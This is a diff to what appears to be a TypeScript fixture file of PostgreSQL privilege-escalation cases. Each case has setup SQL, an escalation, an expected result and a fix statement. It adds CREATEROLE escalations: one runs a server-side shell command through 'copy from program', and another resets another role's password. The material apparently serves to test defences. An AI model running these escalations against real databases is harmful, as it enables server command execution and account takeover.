@@ -15,6 +15,8 @@ export interface Escalated {
   readonly afterwards?: unknown;
   /** What the attack leaves behind, taken away by a superuser. */
   readonly undo?: string;
+  /** The way that the attack goes, by the roles at its ends. */
+  readonly way?: { readonly from: string; readonly to: string; readonly needsVictim: boolean };
   /** What mends it where a finding gives no statement. */
   readonly mend?: (major: number) => string;
 }
@@ -22,6 +24,7 @@ export interface Escalated {
 export const ESCALATIONS: readonly Escalated[] = [
   {
     id: "PGE-01",
+    way: { from: "pge01_admin", to: "pge01_data", needsVictim: false },
     since: 16,
     setup: () => `
       create role pge01_admin login; create role pge01_data; create role pge01_other;
@@ -34,6 +37,42 @@ export const ESCALATIONS: readonly Escalated[] = [
     gets: "secret",
   },
   {
+    id: "CREATEROLE until 15",
+    until: 15,
+    setup: () => "create role cr_maker login createrole; create role cr_team;",
+    way: { from: "cr_maker", to: "superuser", needsVictim: false },
+    escalate: (as) =>
+      as(
+        "cr_maker",
+        `begin; grant pg_execute_server_program to cr_maker; create temp table got (line text);
+         copy got from program 'echo owned'; select line from got`,
+      ),
+    gets: "owned",
+    mend: () => "alter role cr_maker nocreaterole",
+  },
+  {
+    id: "CREATEROLE from 16 on",
+    since: 16,
+    setup: () => `
+      create role cr_maker login createrole; create role cr_heads; create role cr_app login; create role cr_other login;
+      grant cr_heads to cr_maker with inherit false, set false; grant cr_app to cr_heads with admin true, inherit true, set true;`,
+    way: { from: "cr_maker", to: "cr_app", needsVictim: false },
+    escalate: (as) => as("cr_maker", "begin; alter role cr_app password 'mine'; select 'set'"),
+    gets: "set",
+    mend: () => "alter role cr_maker nocreaterole",
+  },
+  {
+    id: "CREATEROLE without ADMIN from 16 on",
+    since: 16,
+    setup: () => "create role cr_lone login createrole; create role cr_safe login;",
+    escalate: (as) =>
+      as("cr_lone", "begin; alter role cr_safe password 'mine'; select 'set'").catch(
+        (error: unknown) => (error as { code: string }).code,
+      ),
+    gets: "42501",
+    afterwards: "42501",
+  },
+  {
     id: "PGE-02",
     until: 14,
     setup: () => "create role pge02_giver login; create role pge02_taker login;",
@@ -43,6 +82,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-03",
+    way: { from: "pge03_etl", to: "superuser", needsVictim: false },
     setup: () => `
       create role pge03_etl login; create role pge03_no login noinherit; create role pge03_mon login;
       grant pg_execute_server_program to pge03_etl; grant pg_read_server_files to pge03_no; grant pg_monitor to pge03_mon;`,
@@ -52,6 +92,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-04",
+    way: { from: "pge04_viewer", to: "pge04_all", needsVictim: false },
     setup: (major) => `
       create role pge04_reader login; create role pge04_viewer login; create role pge04_names login; create role pge04_all login;
       alter role pge04_all password 'something';
@@ -69,6 +110,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-05",
+    way: { from: "pge05_app", to: "superuser", needsVictim: false },
     setup: () => `
       create role pge05_app login; create role pge05_near login;
       grant execute on function pg_read_file(text) to pge05_app; grant execute on function pg_sleep(double precision) to pge05_near;`,
@@ -77,6 +119,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-06",
+    way: { from: "pge06_dev", to: "superuser", needsVictim: false },
     setup: () => `
       create role pge06_dev login; create role pge06_owner;
       create schema pge06; grant usage, create on schema pge06 to pge06_dev;
@@ -94,6 +137,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-07",
+    way: { from: "pge07_app", to: "pge07_owner", needsVictim: false },
     setup: () => `
       create role pge07_app login; create role pge07_owner;
       create schema pge07; create schema pge07_lab authorization pge07_app; grant usage on schema pge07 to pge07_app, pge07_owner;
@@ -128,6 +172,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-09",
+    way: { from: "pge09_member", to: "superuser", needsVictim: false },
     since: 16,
     setup: () => `
       create role pge09_member login; create role pge09_near login; create role pge09_owner superuser; create role pge09_calm;
@@ -146,6 +191,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-10",
+    way: { from: "pge10_app", to: "pge10_writer", needsVictim: true },
     setup: () => `
       create role pge10_app login; create role pge10_writer login; create schema pge10; create schema pge10_lab authorization pge10_app;
       create table pge10.t (id int); create table pge10.u (id int);
@@ -167,6 +213,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-11",
+    way: { from: "pge11_app", to: "pge11_owner", needsVictim: false },
     setup: () => `
       create role pge11_app login; create role pge11_near login; create role pge11_owner;
       create schema pge11; create schema pge11_lab authorization pge11_app;
@@ -189,6 +236,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-12",
+    way: { from: "pge12_dev", to: "pge12_boss", needsVictim: true },
     setup: () => `
       create role pge12_dev login; create role pge12_boss login createrole; create role pge12_owner; create role pge12_plain login;
       create schema pge12; create schema pge12_lab authorization pge12_dev; grant usage on schema pge12 to pge12_dev, pge12_boss, pge12_plain;
@@ -213,6 +261,7 @@ export const ESCALATIONS: readonly Escalated[] = [
   },
   {
     id: "PGE-13",
+    way: { from: "pge13_dev", to: "pge13_boss", needsVictim: true },
     setup: () => `
       create role pge13_dev login; create role pge13_boss login createrole; create role pge13_plain login;
       create schema pge13; create schema pge13_own; grant create, usage on schema pge13 to pge13_dev; grant usage on schema pge13 to pge13_boss;
